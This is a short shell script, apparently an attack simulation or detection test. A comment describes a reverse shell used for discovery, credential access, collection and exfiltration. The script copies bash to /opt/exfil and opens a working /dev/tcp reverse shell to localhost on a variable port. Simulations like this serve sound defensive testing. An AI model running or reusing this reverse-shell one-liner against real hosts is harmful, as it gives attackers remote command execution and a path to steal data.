# A reverse shell receives commands for discovery, credential access, collection and exfiltration.
cp /bin/bash /opt/exfil
bash -c "exec 5<>/dev/tcp/127.0.0.1/$PORT; echo SHELL >&5; exec sh <&5 >&5"
sleep 0.1
